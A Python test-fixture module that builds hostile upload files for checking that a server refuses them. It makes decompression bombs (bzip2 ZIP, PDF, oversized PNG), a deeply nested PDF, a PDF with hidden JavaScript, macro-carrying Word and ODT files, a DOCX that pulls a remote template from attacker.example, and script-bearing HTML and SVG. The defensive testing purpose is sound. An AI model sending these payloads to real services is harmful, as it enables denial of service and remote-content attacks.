"""Hostile files made on the spot, so no large binary lives in the repository.

Each is what an attacker could post to a form with no login: small on the wire, ruinous to a naive
parser. The benchmark (scripts/bench_hostile_files.py) posts the same files to a running server.
"""

import bz2
import functools
import io
import struct
import zipfile
import zlib

ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
MEGABYTE = 1 << 20


def zlib_zeros(length):
    """A zlib stream of `length` zero bytes, built in milliseconds rather than by compressing them all.

    After a full flush deflate keeps no history, so the compressed form of 1 MB of zeros is the same
    byte string each time: repeat it, add the rest and the final block, and the checksum (the
    Adler-32 of n zeros is n mod 65521 in its high half, 1 in its low half).
    """
    whole, rest = divmod(length, MEGABYTE)
    segment = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = segment.compress(bytes(MEGABYTE)) + segment.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    ending = last.compress(bytes(rest)) + last.flush()
    adler = ((length % 65521) << 16) | 1
    return b"\x78\xda" + repeated * whole + ending + struct.pack(">L", adler)


def crc32_of_zeros(length):
    crc, block = 0, bytes(MEGABYTE)
    whole, rest = divmod(length, MEGABYTE)
    for _ in range(whole):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(bytes(rest), crc)


@functools.cache
def bzip2_bomb_odt(unpacked=1 << 30):
    """A ~1 KB ZIP whose `mimetype` entry is 1 GiB of zeros compressed with bzip2 (posted as report.odt).

    bzip2 has no shortcut like zlib_zeros: making it takes about 17 s, once per test session.
    """
    compressor = bz2.BZ2Compressor(9)
    chunk = bytes(16 * MEGABYTE)
    compressed = b"".join(compressor.compress(chunk) for _ in range(unpacked // len(chunk)))
    compressed += compressor.compress(bytes(unpacked % len(chunk))) + compressor.flush()
    # The archive is written by hand: zipfile would compress 1 GiB itself to build it.
    crc = crc32_of_zeros(unpacked)
    name = b"mimetype"
    sizes = (crc, len(compressed), unpacked)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 46, 0, zipfile.ZIP_BZIP2, 0, 0, *sizes, len(name), 0)
    central = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02",
        46,
        46,
        0,
        zipfile.ZIP_BZIP2,
        0,
        0,
        crc,
        len(compressed),
        unpacked,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    body = local + name + compressed
    directory = central + name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def huge_png(side=13_300):
    """A PNG of side × side black pixels (13,300² = 177 million), about 500 KB on the wire."""
    # Each row is a filter byte (0) and its pixels (0): the whole image is zeros.
    idat = zlib_zeros(side * (1 + side * 3))

    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">2L5B", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def pdf(objects, trailer_root=1):
    """A small well-formed PDF from numbered object bodies (bytes), with a cross-reference table."""
    output = io.BytesIO()
    output.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(output.tell())
        output.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = output.tell()
    output.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        output.write(b"%010d 00000 n \n" % offset)
    output.write(b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, trailer_root))
    output.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return output.getvalue()


def plain_pdf(text=b"Evidence"):
    content = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        ]
    )


def pdf_bomb(unpacked=1 << 30):
    """A PDF whose one content stream inflates to 1 GiB (about 1 MB on the wire)."""
    stream = zlib_zeros(unpacked)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def scanned_pdf(side=6_000):
    """An ordinary scan: one page with a 6,000 × 6,000 grey picture, Flate-compressed (36 MB inflated)."""
    pixels = zlib_zeros(side * side)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Length %d /Filter /FlateDecode >>\nstream\n" % (side, side, len(pixels))
    )
    content = b"q 612 0 0 792 0 0 cm /Scan Do Q"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /XObject << /Scan 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            image + pixels + b"\nendstream",
        ]
    )


def nested_pdf(depth=100_000):
    """A PDF with an array nested 100,000 deep: a recursive parser runs out of stack."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>"])


def javascript_pdf(hidden=False):
    """A PDF that runs JavaScript when opened; `hidden` hides the action in a compressed object stream."""
    if not hidden:
        return pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>",
                b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
            ]
        )
    objects = b"3 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(objects)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream",
        ]
    )


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
PACKAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Evidence</w:t></w:r></w:p></w:body></w:document>"
)


def docx(extra_parts=()):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, content in extra_parts:
            archive.writestr(name, content)
    return output.getvalue()


def macro_docx():
    """A Word document carrying a VBA project (macros)."""
    return docx([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))])


def external_template_docx():
    """A Word document that fetches its template from a remote server when opened (template injection)."""
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    return docx([("word/settings.xml", b"<w:settings/>"), ("word/_rels/settings.xml.rels", settings_rels)])


def odt(extra_parts=()):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
        for name, content in extra_parts:
            archive.writestr(name, content)
    return output.getvalue()


def macro_odt():
    return odt([("Basic/Standard/Module1.xml", b"<script:module/>")])


HTML_AS_TEXT = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script>Evidence</body></html>"
SVG_AS_TEXT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Evidence</text></svg>'


# (file name, how to make it, content type sent, the refusal reason expected) for every hostile file.
HOSTILE_FILES = [
    ("report.odt", bzip2_bomb_odt, "application/vnd.oasis.opendocument.text", "archive"),
    ("photo.png", huge_png, "image/png", "too_many_pixels"),
    ("bomb.pdf", pdf_bomb, "application/pdf", "too_complex"),
    ("nested.pdf", nested_pdf, "application/pdf", "too_complex"),
    ("script.pdf", functools.partial(javascript_pdf, hidden=True), "application/pdf", "active_pdf"),
    ("macro.docx", macro_docx, "application/octet-stream", "macros"),
    ("template.docx", external_template_docx, "application/octet-stream", "external"),
    ("page.txt", lambda: HTML_AS_TEXT, "text/plain", "markup"),
    ("drawing.txt", lambda: SVG_AS_TEXT, "text/plain", "markup"),
]


def hostile_files():
    """(file name, bytes, content type, the refusal reason expected) for every hostile file."""
    return [(name, make(), content_type, reason) for name, make, content_type, reason in HOSTILE_FILES]
